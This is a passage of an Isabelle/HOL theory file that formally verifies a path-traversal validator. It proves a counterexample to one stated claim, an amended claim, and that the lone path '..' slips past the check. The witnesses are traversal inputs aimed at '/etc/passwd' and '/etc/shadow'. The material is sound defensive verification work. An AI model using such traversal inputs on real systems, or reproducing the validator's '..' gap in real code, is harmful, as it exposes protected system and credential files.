  with ns k show ?thesis by (intro exI [of _ "rev ns"] exI [of _ k]) simp
qed

lemma includes_prefix: "prefix sub s \<Longrightarrow> includes_str s sub"
  by (cases s) auto

lemma includes_Nil: "includes_str t []"
  by (cases t) simp_all

lemma includes_append: "includes_str s sub \<Longrightarrow> includes_str (s @ t) sub"
proof (induction s)
  case Nil
  then show ?case by (simp add: includes_Nil)
next
  case (Cons c s)
  then show ?case using prefix_prefix [of sub "c # s" t] by auto
qed

lemma join_slash_Cons2: "segs \<noteq> [] \<Longrightarrow> join_slash (s # segs) = s @ ''/'' @ join_slash segs"
  by (cases segs) simp_all

lemma join_slash_Nil_iff: "\<forall>s\<in>set segs. s \<noteq> [] \<Longrightarrow> join_slash segs = [] \<longleftrightarrow> segs = []"
  by (induction segs rule: join_slash.induct) auto

lemma plain_nonempty: "plain_segment s \<Longrightarrow> s \<noteq> []"
  by (simp add: plain_segment_def)

lemma plain_no_slash: "plain_segment s \<Longrightarrow> CHR ''/'' \<notin> set s"
  by (simp add: plain_segment_def)

lemma plain_not_dots: "plain_segment s \<Longrightarrow> s \<noteq> ''..''"
  by (simp add: plain_segment_def)

lemma dots_no_slash: "CHR ''/'' \<notin> set ''..''"
  by simp

lemma small_paths:
  "\<not> has_parent_segment ''.''" "\<not> has_parent_segment ''/''" "\<not> has_parent_segment ''./''"
  by (simp_all add: has_parent_segment_def)

text \<open>
  A normalized path with a \<open>..\<close> segment, other than the path \<open>..\<close> itself, starts
  with \<open>../\<close>.
\<close>

lemma parent_segment_rejected:
  assumes seg: "has_parent_segment (normalize_path path)"
    and other: "normalize_path path \<noteq> ''..''"
  shows "includes_str (normalize_path path) ''../''"
proof -
  define ab where "ab = isAbsolute path"
  obtain ms k where P: "normalizeString path (\<not> ab) = join_slash (replicate k ''..'' @ ms)"
    and ms: "\<forall>s\<in>set ms. plain_segment s" and k: "ab \<longrightarrow> k = 0"
    using normalizeString_shape [of path "\<not> ab"] by auto
  define segs where "segs = replicate k ''..'' @ ms"
  have segs_sub: "set segs \<subseteq> insert ''..'' (set ms)"
    by (auto simp: segs_def)
  have segs_ne: "\<forall>s\<in>set segs. s \<noteq> []"
  proof
    fix s assume "s \<in> set segs"
    with segs_sub have "s = ''..'' \<or> s \<in> set ms" by blast
    then show "s \<noteq> []" using ms plain_nonempty by blast
  qed
  have segs_ns: "\<forall>s\<in>set segs. CHR ''/'' \<notin> set s"
  proof
    fix s assume "s \<in> set segs"
    with segs_sub have "s = ''..'' \<or> s \<in> set ms" by blast
    then show "CHR ''/'' \<notin> set s" using ms plain_no_slash dots_no_slash by blast
  qed
  show ?thesis
  proof (cases "path = [] \<or> segs = []")
    case True
    have "normalize_path path = ''.'' \<or> normalize_path path = ''/'' \<or>
          normalize_path path = ''./''"
    proof (cases "path = []")
      case True
      then show ?thesis by (simp add: normalize_path_def)
    next
      case False
      with \<open>path = [] \<or> segs = []\<close> have "normalizeString path (\<not> ab) = []"
        using P by (simp add: segs_def)
      with False show ?thesis
        by (simp add: normalize_path_def Let_def ab_def)
    qed
    then have "\<not> has_parent_segment (normalize_path path)"
      using small_paths by metis
    with seg show ?thesis by simp
  next
    case False
    then have ne: "path \<noteq> []" "segs \<noteq> []" by simp_all
    then have Pne: "join_slash segs \<noteq> []"
      using join_slash_Nil_iff [OF segs_ne] by simp
    define pre where "pre = (if ab then ''/'' else [])"
    define post where "post = (if last path = CHR ''/'' then ''/'' else [])"
    have n: "normalize_path path = pre @ join_slash segs @ post"
      using ne Pne P by (simp add: normalize_path_def Let_def ab_def segs_def pre_def post_def)
    have "set (split_slash (normalize_path path)) \<subseteq> set segs \<union> {[]}"
      unfolding n pre_def post_def
      using split_slash_join [OF ne(2) segs_ns] split_slash_snoc [of "join_slash segs"]
      by auto
    with seg have "''..'' \<in> set segs" by (auto simp: has_parent_segment_def)
    then have kpos: "k \<noteq> 0" using ms plain_not_dots by (auto simp: segs_def)
    with k have "\<not> ab" by blast
    then have n': "normalize_path path = join_slash segs @ post" by (simp add: n pre_def)
    from kpos obtain k' where k': "k = Suc k'" by (cases k) auto
    then have segs': "segs = ''..'' # (replicate k' ''..'' @ ms)" by (simp add: segs_def)
    show ?thesis
    proof (cases "replicate k' ''..'' @ ms = []")
      case True
      then have "join_slash segs = ''..''" by (simp add: segs')
      with n' other have "post = ''/''" by (auto simp: post_def split: if_splits)
      then show ?thesis using n' \<open>join_slash segs = ''..''\<close> by simp
    next
      case False
      then have "join_slash segs = ''..'' @ ''/'' @ join_slash (replicate k' ''..'' @ ms)"
        unfolding segs' by (rule join_slash_Cons2)
      then have "prefix ''../'' (join_slash segs)" by (simp add: prefix_def)
      then have "includes_str (join_slash segs) ''../''" by (rule includes_prefix)
      then show ?thesis unfolding n' by (rule includes_append)
    qed
  qed
qed

text \<open>
  Claim C6, as stated, fails: the path \<open>....//....//etc/passwd\<close> normalizes to
  \<open>..../..../etc/passwd\<close>, whose segments are \<open>....\<close>, \<open>....\<close>, \<open>etc\<close> and \<open>passwd\<close>.
  None is a parent-directory segment, and \<open>validatePath\<close> throws the path-traversal
  error, since the text \<open>../\<close> occurs in it.
\<close>

theorem validatePath_counterexample:
  "validatePath ''/app'' (Some (JStr ''....//....//etc/passwd'')) =
     Inl (Error ''Path traversal is not allowed'') \<and>
   normalize_path ''....//....//etc/passwd'' = ''..../..../etc/passwd'' \<and>
   split_slash ''..../..../etc/passwd'' = [''....'', ''....'', ''etc'', ''passwd''] \<and>
   \<not> has_parent_segment (normalize_path ''....//....//etc/passwd'')"
proof -
  have n: "normalize_path ''....//....//etc/passwd'' = ''..../..../etc/passwd''"
    by (simp add: normalize_path_def normalizeString_def normalize_step_def isAbsolute_def)
  show ?thesis
    by (simp add: validatePath_def n has_parent_segment_def)
qed

text \<open>
  Claim C6, amended. For every path string whose normalized form is not the path \<open>..\<close>
  itself, \<open>validatePath\<close> throws the path-traversal error exactly when the normalized
  path contains the text \<open>../\<close>, and returns without error otherwise; so it throws
  whenever the normalized path has a parent-directory segment. It returns nothing, and
  its outcome does not depend on the working directory against which it resolves a
  relative path.
\<close>

theorem validatePath_traversal:
  "(normalize_path path \<noteq> ''..'' \<longrightarrow>
      (validatePath wd (Some (JStr path)) = Inl (Error ''Path traversal is not allowed'') \<longleftrightarrow>
         includes_str (normalize_path path) ''../'') \<and>
      (validatePath wd (Some (JStr path)) = Inr () \<longleftrightarrow>
         \<not> includes_str (normalize_path path) ''../'') \<and>
      (has_parent_segment (normalize_path path) \<longrightarrow>
         validatePath wd (Some (JStr path)) = Inl (Error ''Path traversal is not allowed''))) \<and>
   validatePath wd v = validatePath wd' v"
proof -
  have "validatePath wd (Some (JStr path)) = Inl (Error ''Path traversal is not allowed'') \<longleftrightarrow>
         includes_str (normalize_path path) ''../''"
    by (simp add: validatePath_def Let_def)
  moreover have "validatePath wd (Some (JStr path)) = Inr () \<longleftrightarrow>
         \<not> includes_str (normalize_path path) ''../''"
    by (simp add: validatePath_def Let_def)
  moreover have "validatePath wd v = validatePath wd' v"
    by (simp add: validatePath_def Let_def split: option.splits json.splits)
  ultimately show ?thesis
    using parent_segment_rejected [of path] by blast
qed

text \<open>
  A path of the validator's tests that climbs out of its directory is rejected, and a
  path below the working directory is accepted.
\<close>

theorem validatePath_traversal_witness:
  "normalize_path ''./config/../../../etc/shadow'' = ''../../etc/shadow'' \<and>
   has_parent_segment ''../../etc/shadow'' \<and>
   validatePath ''/app'' (Some (JStr ''./config/../../../etc/shadow'')) =
     Inl (Error ''Path traversal is not allowed'') \<and>
   normalize_path ''data/output.txt'' = ''data/output.txt'' \<and>
   validatePath ''/app'' (Some (JStr ''data/output.txt'')) = Inr ()"
proof -
  have n1: "normalize_path ''./config/../../../etc/shadow'' = ''../../etc/shadow''"
    by (simp add: normalize_path_def normalizeString_def normalize_step_def isAbsolute_def)
  have n2: "normalize_path ''data/output.txt'' = ''data/output.txt''"
    by (simp add: normalize_path_def normalizeString_def normalize_step_def isAbsolute_def)
  have seg: "has_parent_segment ''../../etc/shadow''"
    by (simp add: has_parent_segment_def)
  have clean: "\<not> includes_str ''data/output.txt'' ''../''"
    by simp
  show ?thesis
    using validatePath_traversal [of "''./config/../../../etc/shadow''" "''/app''" None "''/app''"]
      validatePath_traversal [of "''data/output.txt''" "''/app''" None "''/app''"]
      n1 n2 seg clean
    by simp
qed

text \<open>
  The path left out above: \<open>..\<close> is its own normal form and is one parent-directory
  segment, and the text \<open>../\<close> does not occur in it.
\<close>

lemma lone_parent_accepted:
  "normalize_path ''..'' = ''..'' \<and> has_parent_segment ''..'' \<and>
   validatePath wd (Some (JStr ''..'')) = Inr ()"
proof -
  have n: "normalize_path ''..'' = ''..''"
    by (simp add: normalize_path_def normalizeString_def normalize_step_def isAbsolute_def)
  show ?thesis
    by (simp add: n has_parent_segment_def validatePath_def)
qed

end
